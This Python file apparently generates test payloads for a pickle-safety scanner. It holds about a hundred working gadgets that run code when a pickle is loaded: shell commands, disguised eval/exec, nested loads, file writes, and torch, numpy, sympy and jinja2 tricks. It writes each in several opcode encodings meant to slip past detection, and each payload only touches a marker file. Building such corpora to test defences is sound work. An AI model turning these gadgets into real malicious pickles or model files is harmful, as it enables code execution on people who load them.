"""Calls that run something when a pickle is opened, in every way of writing them that pickle offers.

Each makes the file or folder `marker`, and nothing else. They are the known ways in: commands, `eval` in its many
disguises, files written, loaders called from a loader, and functions of torch, numpy, sympy and jinja2 that do it for
somebody.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any


@dataclass(frozen=True)
class Name:
    """What `module.name` is, looked up by the unpickler."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    callee: Name | Call
    arguments: tuple[Any, ...]


Form = Callable[["Name | Call", tuple[Any, ...], "Form"], bytes]
"""Pickle instructions that leave the result of a call on the stack; the last argument writes what is nested."""


def call(dotted: str, *arguments: Any) -> Call:
    """`module:name` or `module.name`; the former where the name has dots itself, which protocol 4 follows."""
    module, _, name = dotted.partition(":") if ":" in dotted else dotted.rpartition(".")
    return Call(Name(module, name), arguments)


def name(dotted: str) -> Name:
    module, _, attribute = dotted.rpartition(".")
    return Name(module, attribute)


def method(target: Any, attribute: str, *arguments: Any) -> Call:
    return Call(call("builtins.getattr", target, attribute), arguments)


# ---- how a value is written ---------------------------------------------------------------------------------------


def write(value: Any, form: Form) -> bytes:
    match value:
        case Call():
            return form(value.callee, value.arguments, form)
        case Name():
            return _lookup(value, form)
        case bytes():
            return write(call("_codecs.encode", value.decode("latin1"), "latin1"), form)
        case str():
            raw = value.encode()
            return b"X" + struct.pack("<I", len(raw)) + raw
        case bool() | None:
            return {True: b"\x88", False: b"\x89", None: b"N"}[value]
        case int():
            return b"J" + struct.pack("<i", value)
        case tuple():
            return b"(" + b"".join(write(item, form) for item in value) + b"t"
        case list():
            return b"](" + b"".join(write(item, form) for item in value) + b"e"
        case dict():
            return b"}(" + b"".join(write(item, form) for pair in value.items() for item in pair) + b"u"
    raise TypeError(type(value).__name__)


def _lookup(what: Name, form: Form) -> bytes:
    if form is by_stack_global or "." in what.name:
        protocol = b"\x80\x04" if "." in what.name else b""  # which follows dots, but no name of Python 2
        return protocol + write(what.module, form) + write(what.name, form) + b"\x93"
    return f"c{what.module}\n{what.name}\n".encode()


def by_reduce(callee: Name | Call, arguments: tuple[Any, ...], form: Form) -> bytes:
    return write(callee, form) + write(arguments, form) + b"R"


def by_stack_global(callee: Name | Call, arguments: tuple[Any, ...], form: Form) -> bytes:
    return write(callee, form) + write(arguments, form) + b"R"


def by_inst(callee: Name | Call, arguments: tuple[Any, ...], form: Form) -> bytes:
    """The callee's name after the arguments; with nothing to name, as `by_obj`."""
    if isinstance(callee, Call) or "." in callee.name or not arguments:
        return by_obj(callee, arguments, form)
    return b"(" + b"".join(write(item, form) for item in arguments) + f"i{callee.module}\n{callee.name}\n".encode()


def by_obj(callee: Name | Call, arguments: tuple[Any, ...], form: Form) -> bytes:
    if not arguments:  # the instruction then takes only classes
        return by_reduce(callee, arguments, form)
    return b"(" + write(callee, form) + b"".join(write(item, form) for item in arguments) + b"o"


def by_memo(callee: Name | Call, arguments: tuple[Any, ...], form: Form) -> bytes:
    """Looked up, put aside, dropped, and fetched again."""
    return write(callee, form) + b"r\x00\xff\x00\x00" + b"0" + b"j\x00\xff\x00\x00" + write(arguments, form) + b"R"


def by_duplicate(callee: Name | Call, arguments: tuple[Any, ...], form: Form) -> bytes:
    """Copied on the stack, and the copy dropped."""
    return write(callee, form) + b"20" + write(arguments, form) + b"R"


FORMS: tuple[Form, ...] = (by_reduce, by_stack_global, by_inst, by_obj, by_memo, by_duplicate)


# ---- what is called -----------------------------------------------------------------------------------------------


def payloads(folder: Path, marker: Path) -> list[Call]:
    """About a hundred calls, each of which makes `marker`; `folder` holds what `prepare` put there."""
    m, shell = str(marker), f"touch {marker}"
    return [*_commands(m, shell), *_evaluations(m, folder), *_writes(m, folder), *_libraries(m, shell, folder)]


def prepare(folder: Path) -> None:
    """A script for each payload that wants one is written by `script`; here is what it may copy."""
    (folder / "tree").mkdir()
    (folder / "some.txt").write_text("x")


def script(folder: Path, marker: str) -> str:
    """A Python file that makes the marker, also as a hubconf.py whose entry `entry` does."""
    home = folder / Path(marker).name.replace("marker", "code")
    home.mkdir(exist_ok=True)
    (home / "code.py").write_text(f"open({marker!r}, 'w').close()\n")
    (home / "hubconf.py").write_text(f"def entry():\n    open({marker!r}, 'w').close()\n")
    return str(home)


def _commands(m: str, shell: str) -> list[Call]:
    words = ["touch", m]
    return (
        [
            call("posix.system", shell),
            call("os.system", shell),
            call("os.popen", shell),
            call("os.spawnv", 0, "/usr/bin/touch", words),
            call("os.spawnvp", 0, "touch", words),
            call("os.spawnlp", 0, "touch", "touch", m),
            call("os.posix_spawn", "/usr/bin/touch", words, {}),
            call("posix.posix_spawnp", "touch", words, {"PATH": "/usr/bin:/bin"}),
            call("subprocess.call", words),
            call("subprocess.run", words),
            call("subprocess.Popen", words),
            call("subprocess.check_call", words),
            call("subprocess.check_output", words),
            call("subprocess.getoutput", shell),
            call("subprocess.getstatusoutput", shell),
            call("commands.getoutput", shell),  # Python 2's name, which unpicklers still map
            call("commands.getstatusoutput", shell),
            call("pydoc.pipepager", "x", shell),
            call("pydoc.tempfilepager", "x", f"{shell};true"),
            call("distutils.spawn.spawn", words),
            call("torch.utils.collect_env.run", shell),
            call("torch:os.system", shell),
            call("torch.serialization:os.system", shell),
            call("collections:_sys.modules.get", "os"),
        ][:-1]
        + [
            Call(call("functools.partial", name("os.system"), shell), ()),
            Call(call("operator.methodcaller", "system", shell), (call("builtins.__import__", "os"),)),
            method(call("builtins.__import__", "os"), "system", shell),
            method(call("operator.getitem", name("sys.modules"), "os"), "system", shell),
            method(call("importlib.import_module", "os"), "system", shell),
            method(call("ctypes.CDLL", None), "system", shell.encode()),
            method(call("contextvars.copy_context"), "run", name("os.system"), shell),
            method(call("threading.Thread", None, name("os.system"), None, (shell,)), "start"),
            call("_thread.start_new_thread", name("os.system"), (shell,)),
            call("functools.reduce", name("os.system"), [shell]),
        ][:-1]
    )


def _evaluations(m: str, folder: Path) -> list[Call]:
    expression, statement = f"open({m!r}, 'w').close()", f"open({m!r}, 'w').close()\n"
    evaluated = call("builtins.map", name("builtins.eval"), [expression])
    code = call("builtins.compile", statement, "x", "exec")
    inner = b"\x80\x02" + write(call("builtins.eval", expression), by_reduce) + b"."
    home = script(folder, m)
    return [
        call("builtins.eval", expression),
        call("builtins.exec", statement),
        call("builtins.exec", code),
        call("__builtin__.eval", expression),
        *(
            call(f"builtins.{consumer}", evaluated)
            for consumer in ("list", "tuple", "set", "any", "all", "sum", "dict")
        ),
        call("collections.deque", evaluated),
        call("collections.Counter", evaluated),
        call("collections.OrderedDict", evaluated),
        call("functools.reduce", name("builtins.eval"), [expression, {}]),
        call("timeit.timeit", "pass", statement),
        call("timeit.repeat", "pass", statement),
        call("cProfile.run", statement),
        call("cProfile.runctx", statement, {}, {}),
        call("profile.run", statement),
        method(call("bdb.Bdb"), "run", statement),
        method(call("code.InteractiveInterpreter"), "runsource", expression),
        method(call("code.InteractiveInterpreter"), "runcode", code),
        Call(call("types.FunctionType", code, {}), ()),
        method(call("trace.Trace", 0, 0), "run", statement),
        call("runpy.run_path", f"{home}/code.py"),
        call("imp.load_source", "espalier_payload", f"{home}/code.py"),
        method(call("importlib.machinery.SourceFileLoader", "espalier_payload", f"{home}/code.py"), "load_module"),
        call("pickle.loads", inner),
        call("_pickle.loads", inner),
        call("pickle._loads", inner),
        call("cPickle.loads", inner),
        method(call("pickle.Unpickler", call("io.BytesIO", inner)), "load"),
    ]


def _writes(m: str, folder: Path) -> list[Call]:
    copied = str(folder / "some.txt")
    return [
        call("builtins.open", m, "w"),
        call("io.open", m, "w"),
        call("_io.FileIO", m, "w"),
        call("_pyio.open", m, "w"),
        call("codecs.open", m, "w"),
        call("os.open", m, 0o100),
        call("os.mkdir", m),
        call("posix.mkdir", m),
        call("os.makedirs", m),
        call("os.mkfifo", m),
        call("os.symlink", "/", m),
        call("os.link", copied, m),
        method(call("pathlib.Path", m), "touch"),
        method(call("pathlib.Path", m), "mkdir"),
        Call(call("operator.methodcaller", "touch"), (call("pathlib.PosixPath", m),)),
        Call(Call(call("operator.attrgetter", "touch"), (call("pathlib.Path", m),)), ()),
        call("shutil.copyfile", copied, m),
        call("shutil.copy", copied, m),
        call("shutil.copy2", copied, m),
        call("shutil.copytree", str(folder / "tree"), m),
        call("logging.FileHandler", m),
        call("logging.handlers.RotatingFileHandler", m),
        call("zipfile.ZipFile", m, "w"),
        call("tarfile.open", m, "w"),
        call("gzip.open", m, "w"),
        call("bz2.open", m, "w"),
        call("lzma.open", m, "w"),
        call("wave.open", m, "w"),
        call("urllib.request.urlretrieve", "data:,x", m),
        call("distutils.dir_util.mkpath", m),
        call("distutils.file_util.write_file", m, ["x"]),
    ]


def _libraries(m: str, shell: str, folder: Path) -> list[Call]:
    expression, home = f"open({m!r}, 'w').close()", script(folder, m)
    inner = b"\x80\x02" + write(call("builtins.eval", expression), by_reduce) + b"."
    graph = f"open({m!r}, 'w').close()\ndef forward(self):\n    pass\n"
    template = f"{{{{ cycler.__init__.__globals__.os.system({shell!r}) }}}}"
    return [
        call("torch.save", 1, m),
        call("torch.serialization.save", 1, m),
        call("torch.hub._load_local", home, "entry"),
        call("torch.fx.graph_module._forward_from_src", graph, {}),
        call("torch.fx.graph_module.reduce_graph_module", {"_code": graph}, ""),
        call("torch.utils.data.datapipes.utils.decoder.basichandlers", "pickle", inner),
        call("torch:serialization.pickle.loads", inner),
        call("numpy.savetxt", m, [1]),
        call("numpy.memmap", m, "uint8", "w+", 0, 1),
        Call(call("numpy.frompyfunc", name("builtins.eval"), 1, 1), (expression,)),
        call("sympy.sympify", f"__import__('os').system({shell!r})"),
        method(call("jinja2.Template", template), "render"),
        method(call("filelock.FileLock", m), "acquire"),
    ]
